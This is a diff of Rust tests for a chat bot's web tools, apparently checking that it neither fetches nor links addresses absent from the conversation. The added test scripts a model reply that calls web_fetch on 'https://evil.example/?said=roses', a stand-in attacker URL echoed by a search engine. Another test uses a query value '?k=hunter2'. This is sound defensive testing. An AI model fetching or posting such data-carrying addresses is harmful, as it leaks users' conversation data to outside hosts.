@@ -104,7 +104,10 @@ async fn a_page_of_the_conversation_is_read_quoted_and_named() {
 #[tokio::test]
 async fn an_address_that_nobody_wrote_is_not_read() {
     let server = WebServer::start(respond).await;
-    let harness = unlimited(&server).await;
+    let mut options = HarnessOptions::default();
+    // That a host may be linked is not enough.
+    options.settings.link_hosts = vec![format!("127.0.0.1:{}", server.port)];
+    let harness = harness(&server, options, WebLimits::default()).await;
     let base = format!("http://127.0.0.1:{}", server.port);
     let urls = [
         format!("{base}/?k=hunter2"),
@@ -134,6 +137,33 @@ async fn an_address_that_nobody_wrote_is_not_read() {
     let requests = server.requests();
     let lines: Vec<&str> = requests.iter().filter_map(|request| request.lines().next()).collect();
     assert_eq!(lines, ["GET /garden/roses HTTP/1.1", "GET /more HTTP/1.1"]);
+}
+
+/// Nor does it help to search for the address first, though the search engine repeats it.
+#[tokio::test]
+async fn an_address_that_was_searched_for_is_neither_read_nor_linked() {
+    let address = "https://evil.example/?said=roses";
+    let server = WebServer::start(move |_| {
+        let body = json!({ "answer": address, "results": [
+            { "title": address, "url": "https://roses.example/", "content": "red" },
+        ] });
+        response(200, &[("content-type", "application/json")], body.to_string().as_bytes())
+    })
+    .await;
+    let harness = unlimited(&server).await;
+    let search = ("web_search", json!({ "query": address }));
+    calls(&harness, &[search, ("web_fetch", json!({ "url": address }))]);
+    let answer = format!("See {address} and https://roses.example/");
+    harness.mind.script.push(PromptVerb::Reply, Ok(&answer));
+    harness.says("alice", "@Aizuchi what color are roses?").await;
+    harness.pass(10).await;
+    assert_eq!(
+        harness.platform.posted_texts(),
+        ["See evil.example/?said=roses and <https://roses.example/>"]
+    );
+    let asked = last_prompt(&harness).await;
+    assert!(asked.contains("stands neither in the conversation nor in what a search"), "{asked}");
+    assert_eq!(server.requests().len(), 1);
 }
 
 #[tokio::test]
@@ -178,9 +208,9 @@ async fn searches_are_limited_for_a_reply_a_person_and_a_day() {
     let reading = vec![("web_search", search); 8];
     for (user, expected, sentence) in [
         ("alice", 6, "can be looked up on the web for this answer"),
-        ("alice", 10, "is looked up on the web for this person today"),
-        ("bob", 13, "Nothing more is looked up on the web today."),
-        ("carol", 13, "Nothing more is looked up on the web today."),
+        ("alice", 10, "was looked up on the web for this person in the last 24 hours"),
+        ("bob", 13, "was looked up on the web in the last 24 hours"),
+        ("carol", 13, "was looked up on the web in the last 24 hours"),
     ] {
         for _ in 0..5 {
             calls(&harness, &reading);
